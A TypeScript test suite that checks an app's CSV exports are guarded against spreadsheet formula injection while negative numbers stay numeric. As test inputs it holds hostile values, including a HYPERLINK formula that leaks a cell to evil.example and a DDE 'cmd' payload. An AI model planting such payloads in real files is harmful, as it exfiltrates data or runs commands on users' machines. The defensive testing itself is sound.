// CSV formula injection (io/csv.ts): text cells from the user's files (layer, run and bundle names)
// are guarded the OWASP way (a leading ') and quoted; number cells never are. Then every CSV the app
// exports, built from hostile names and negative values, read back as a spreadsheet reads it: no
// text cell starts a formula, every number is still a number.

import { describe, expect, it } from 'vitest';
import { aggregateCross, aggregateDynamics } from '../../src/analysis/seeds';
import type { Baseline } from '../../src/analysis/types';
import { csvComment, csvNumber, csvText } from '../../src/io/csv';
import { seedsCrossCsv, seedsDynamicsCsv } from '../../src/state/seeds';
import { chanceCsv, gridChanceLines } from '../../src/ui/chanceHeat';
import { matrixCsv } from '../../src/ui/exportChart';

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")';

describe('csvText', () => {
  it('puts a quote before a formula and quotes what holds a quote or separator', () => {
    expect(csvText(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`);
    expect(csvText('-lr')).toBe("'-lr");
    expect(csvText('+1')).toBe("'+1");
    expect(csvText('@x')).toBe("'@x");
    expect(csvText('=1+1')).toBe("'=1+1");
    expect(csvText('\tcmd')).toBe(`"'\tcmd"`);
    expect(csvText('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvText("-2+3;=cmd|' /C calc'!A0")).toBe(`"'-2+3;=cmd|' /C calc'!A0"`);
  });

  it('leaves ordinary names as they were (quoted only where RFC 4180 needs it)', () => {
    expect(csvText('conv1')).toBe('conv1');
    expect(csvText('layer1.0.conv-2')).toBe('layer1.0.conv-2');
    expect(csvText("A's layer")).toBe("A's layer");
    expect(csvText('fc,1')).toBe('"fc,1"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('')).toBe('');
  });
});

describe('csvNumber', () => {
  it('writes numbers as numbers, negative ones included, and nothing for none', () => {
    expect(csvNumber(-0.5)).toBe('-0.5');
    expect(csvNumber(-0.12)).toBe('-0.12');
    expect(csvNumber(-1e-7)).toBe('-1e-7');
    expect(csvNumber(0.123456789012345)).toBe('0.123456789012345');
    for (const none of [null, undefined, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]) expect(csvNumber(none)).toBe('');
  });
});

describe('csvComment', () => {
  it('guards every piece a spreadsheet would split off the line, and keeps it one line', () => {
    expect(csvComment('bundle', 'runs.npz')).toBe('# bundle: runs.npz');
    expect(csvComment('bundle', `a.npz,${HYPERLINK}`)).toBe(`# bundle: a.npz,'${HYPERLINK}`);
    expect(csvComment('bundle', 'a.npz,"=cmd", ""@x')).toBe(`# bundle: a.npz,"'=cmd", ""'@x`);
    expect(csvComment('files', 'x.npz, -lr.npz;@y\n+z')).toBe("# files: x.npz, '-lr.npz;'@y +z");
  });
});

/** Splits CSV text into rows of cells as RFC 4180 (and a spreadsheet) reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
    else cell += c;
  }
  if (cell !== '' || row.length > 0) (row.push(cell), rows.push(row));
  return rows;
}

const NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/;

/** Every cell a spreadsheet would run as a formula: starts with = + - @ tab or CR and is no number. */
const formulas = (text: string) => readCsv(text).flatMap((row) => row.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell)));

const HOSTILE = [HYPERLINK, '-lr', '+1', '@x'];
const chance = (mean: number): Baseline => ({ mean, sd: 0.01, z: -3, p: 0.5, permutations: 20, seed: 1, null: 'permutation' });

describe('the exports with hostile names', () => {
  it('matrixCsv: names guarded, negative values left numbers', () => {
    const text = matrixCsv('=corner', HOSTILE, HOSTILE, [[-0.5, 0.25, null, -0.12]].concat(HOSTILE.slice(1).map(() => [-0.5, -0.5, -0.5, -0.5])), [
      ['bundle', `x.npz,${HYPERLINK}`],
    ]);
    expect(formulas(text)).toEqual([]);
    const rows = readCsv(text);
    expect(rows[1]).toEqual(["'=corner", ...HOSTILE.map((h) => `'${h}`)]);
    expect(rows[2]).toEqual([`'${HYPERLINK}`, '-0.5', '0.25', '', '-0.12']);
  });

  it('chanceCsv: names guarded, values and chance columns left numbers', () => {
    const text = chanceCsv(["A's layer", "B's layer"], 'svcca', gridChanceLines(['-lr'], ['@x'], [[-0.5]], [[chance(-0.02)]]), [['run', '+1']]);
    expect(formulas(text)).toEqual([]);
    expect(readCsv(text)[2]).toEqual(["'-lr", "'@x", '-0.5', '-0.02', '0.01', '-3', '0.5', '20', '1']);
  });

  it('seedsDynamicsCsv: layer and run names guarded, every value a number', () => {
    const layers = ['-lr', HYPERLINK];
    const values = [
      [
        [-0.5, 0.2],
        [0.3, 1],
      ],
      [
        [1, -0.1],
        [0.4, 1],
      ],
    ];
    const agg = aggregateDynamics(
      [
        { run: '=run', steps: [0, 1], reference: 1, values },
        { run: '@other', steps: [0, 1], reference: 1, values },
      ],
      layers,
      0.9,
    );
    const text = seedsDynamicsCsv(agg, [['bundle', '+seeds.npz']]);
    expect(formulas(text)).toEqual([]);
    const rows = readCsv(text);
    expect(rows[1]).toEqual(expect.arrayContaining(['run =run', 'run @other']));
    expect(rows[2].slice(0, 4)).toEqual(['0', "'-lr", "'-lr", '-0.5']);
  });

  it('seedsCrossCsv: layer and pair names guarded, every value a number', () => {
    const grid = [
      [-0.5, 0.1],
      [0.2, 0.9],
    ];
    const agg = aggregateCross(
      [
        { a: '=a', b: '-b', values: grid },
        { a: '=a', b: '+c', values: grid },
      ],
      HOSTILE.slice(0, 2),
      HOSTILE.slice(0, 2),
    );
    const text = seedsCrossCsv(agg, HOSTILE.slice(0, 2), HOSTILE.slice(0, 2), [['bundle', '@seeds.npz']]);
    expect(formulas(text)).toEqual([]);
    const rows = readCsv(text);
    expect(rows[2].slice(0, 3)).toEqual([`'${HYPERLINK}`, `'${HYPERLINK}`, '-0.5']);
  });
});
